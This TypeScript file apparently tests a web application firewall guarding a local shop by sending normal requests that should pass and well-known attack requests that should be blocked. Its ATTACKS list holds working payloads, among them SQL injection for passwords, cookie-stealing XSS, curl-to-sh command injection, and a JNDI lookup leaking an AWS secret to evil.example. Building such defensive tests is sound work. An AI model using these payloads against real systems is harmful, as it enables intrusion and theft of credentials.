// What to try once the shop is protected: a few normal requests and a few well-known attacks, as plain requests to the
// edge. Each is sent once before it is shown, so that what is promised is what happens.

import { request } from "node:http";

export interface Trial {
  /** In words, for people. */
  title: string;
  method: string;
  url: string;
  headers: Record<string, string>;
  body: string;
  /** Status. */
  expect: number;
}

const TIMEOUT_MS = 10_000;

const NORMAL: readonly (readonly [string, string])[] = [
  ["a search", "/search?q=red+wool+socks&sort=price_asc"],
  ["a search in Greek", "/search?q=%CF%80%CE%B1%CE%BF%CF%8D%CF%84%CF%83%CE%B9%CE%B1+42"],
  ["a category", "/category/kitchen?page=2"],
];
const ATTACKS: readonly (readonly [string, string])[] = [
  ["SQL injection", "/search?q=%27%20UNION%20SELECT%20username,password%20FROM%20users%20WHERE%20%271%27=%271%27--"],
  ["cross-site scripting", "/search?q=%3Cscript%3Efetch(%27//evil.example/%27%2Bdocument.cookie)%3C/script%3E"],
  ["path traversal", "/static/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd"],
  ["command injection", "/search?q=shoes;curl$%7BIFS%7Dhttp://evil.example/x%7Csh;%23$(id)"],
  ["a JNDI lookup", "/search?q=$%7Bjndi:ldap://evil.example:1389/a$%7Benv:AWS_SECRET_ACCESS_KEY%7D%7D"],
  ["a server-side include", "/search?q=%3C!--%23exec%20cmd=%22/bin/cat%20/etc/passwd%22--%3E"],
  ["template injection", "/search?q=%7B%7B%27%27.__class__.__mro__[1].__subclasses__()%7D%7D"],
];

/** All trials at an edge on 127.0.0.1. */
export function trials(edgePort: number): Trial[] {
  const make = ([title, path]: readonly [string, string], expect: number): Trial => {
    return { title, method: "GET", url: `http://127.0.0.1:${edgePort}${path}`, headers: {}, body: "", expect };
  };
  return [...NORMAL.map((trial) => make(trial, 200)), ...ATTACKS.map((trial) => make(trial, 403))];
}

/** Ready to paste into a POSIX shell. */
export function curlLine({ method, url, headers, body }: Trial): string {
  const parts = ["curl", "-i", "--path-as-is", "--globoff"];
  if (method !== "GET") parts.push("-X", method);
  for (const [name, value] of Object.entries(headers)) parts.push("-H", quote(`${name}: ${value}`));
  if (body) parts.push("--data-raw", quote(body));
  return [...parts, quote(url)].join(" ");
}

/**
 * Sends it as it is, without the tidying of paths that fetch does. Resolves with the status, 0 where no answer came.
 */
export function send({ method, url, headers, body }: Trial): Promise<number> {
  const [, host = "", port = "80", path = "/"] = /^http:\/\/([^/:]+):?(\d*)(.*)$/s.exec(url) ?? [];
  return new Promise((resolve) => {
    const sent = { "user-agent": "curl/8.5.0", accept: "*/*", ...headers };
    const outgoing = request(
      { host, port, method, path, headers: sent, agent: false, timeout: TIMEOUT_MS },
      (response) => {
        response.resume().on("end", () => resolve(response.statusCode ?? 0));
      },
    );
    outgoing.on("timeout", () => outgoing.destroy());
    outgoing.on("error", () => resolve(0));
    outgoing.end(body);
  });
}

function quote(text: string): string {
  return `'${text.replaceAll("'", "'\\''")}'`;
}
